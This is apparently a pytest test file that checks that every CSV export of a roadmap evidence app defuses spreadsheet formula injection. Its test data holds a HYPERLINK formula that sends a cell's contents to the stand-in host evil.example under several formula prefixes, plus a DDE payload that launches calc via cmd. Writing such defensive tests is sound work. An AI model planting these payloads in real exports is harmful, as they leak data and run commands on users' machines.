"""Every table that can be taken away, full of what a spreadsheet would take for a formula."""

import csv
import io
import re
from collections.abc import Iterator
from zipfile import ZipFile

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from roadmap.board import Board
from roadmap.desk.past import as_csv
from roadmap.evidence import Record, Sought, program
from roadmap.public.api import api_routes
from roadmap.public.downloads import download_routes
from roadmap.views.data import FILES

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=")
FORMULA = '{sign}HYPERLINK("https://evil.example/?x="&A1,"click")'
BEGINS = re.compile(r"[=+\-@＝＋－＠\t\r\n]")
NUMBER = re.compile(r"-?[0-9.]+([eE][+-]?[0-9]+)?")
AUTHOR = program("=cmd|' /C calc'!A0")


def hostile(sign: str, number: int) -> Record:
    """A record in which every text begins as formulas do."""
    evil = FORMULA.format(sign=sign)
    both = {"en": evil, "ko": evil}
    poll = dict.fromkeys(("pollster", "sponsor", "mode"), evil) | dict.fromkeys(
        ("population", "question", "limitations"), both
    )
    return Record.model_validate(
        {
            "id": f"hostile-{number}",
            "title": both,
            "summary": both,
            "happened_on": "2026-11-01",
            "source": {"publisher": evil, "title": evil, "url": "https://example.org/"},
            "poll": poll | {"sample_size": 1000, "fieldwork": {"to": "2026-10-31"}},
            "links": [{"indicator": "public-support", "stance": "supports", "value": 41}],
        }
    )


@pytest.fixture
def board(own_board: Board) -> Board:
    """A board on which everything was published, corrected, retracted and drafted with formulas."""
    ledger = own_board.ledger
    for number, sign in enumerate(SIGNS):
        why = FORMULA.format(sign=sign)
        for version in (hostile(sign, number), hostile(sign, number).model_copy(update={"credibility": 5})):
            before = ledger.record(version.id)
            draft = ledger.save(version, who=AUTHOR, expected=before.revision if before else 0, why=why)
            live = ledger.publish(version.id, expected=draft.revision, who=AUTHOR, why=why)
        if number % 2:
            ledger.retract(live.id, expected=live.revision, who=AUTHOR, reason=why)
    return own_board


def tables(board: Board) -> Iterator[tuple[str, bytes]]:
    """Every table, by its address."""
    routes = [*api_routes(lambda: board), *download_routes(lambda: board)]
    with TestClient(Starlette(routes=routes)) as client:
        paths = [str(getattr(route, "path", "")) for route in routes]
        ids = {"/evidence": "hostile-0", "/indicators": "public-support", "/explain": "public-support"}
        for path in [path for path in paths if path.endswith(".csv")] + [f"/data/{name}" for name in FILES]:
            for place, id in ids.items():
                path = path.replace(f"{place}/{{id}}", f"{place}/{id}")
            if path.endswith(".csv"):
                answer = client.get(path, params={"since": "2026-01-01"} if "changes" in path else {})
                assert answer.status_code == 200, path
                yield path, answer.content
        with ZipFile(io.BytesIO(client.get("/api/v1/everything.zip").content)) as whole:
            for name in filter(lambda name: name.endswith(".csv"), whole.namelist()):
                yield f"everything.zip {name.rpartition('/')[2]}", whole.read(name)
    yield "history.csv", as_csv(board, Sought())
    yield "drafts too", board.ledger.as_csv(state=None)


def test_no_cell_of_any_table_is_a_formula(board: Board) -> None:
    with_evil = set()
    for address, content in tables(board):
        for cell in (cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row):
            assert not BEGINS.match(cell) or NUMBER.fullmatch(cell), f"{address}: {cell!r}"
            if "HYPERLINK" in cell:
                with_evil.add(address)
    assert {
        "/api/v1/evidence.csv",
        "/data/evidence.csv",
        "history.csv",
        "drafts too",
        "everything.zip evidence.csv",
    } <= with_evil


@pytest.mark.parametrize("sign", SIGNS)
def test_what_was_guarded_comes_back_as_it_was_written(own_board: Board, sign: str) -> None:
    ledger, record = own_board.ledger, hostile(sign, 0)
    ledger.save(record, who=AUTHOR)
    table = ledger.as_csv(state="draft")
    (arrival,) = ledger.arrivals("back.csv", table)
    assert arrival.record == record
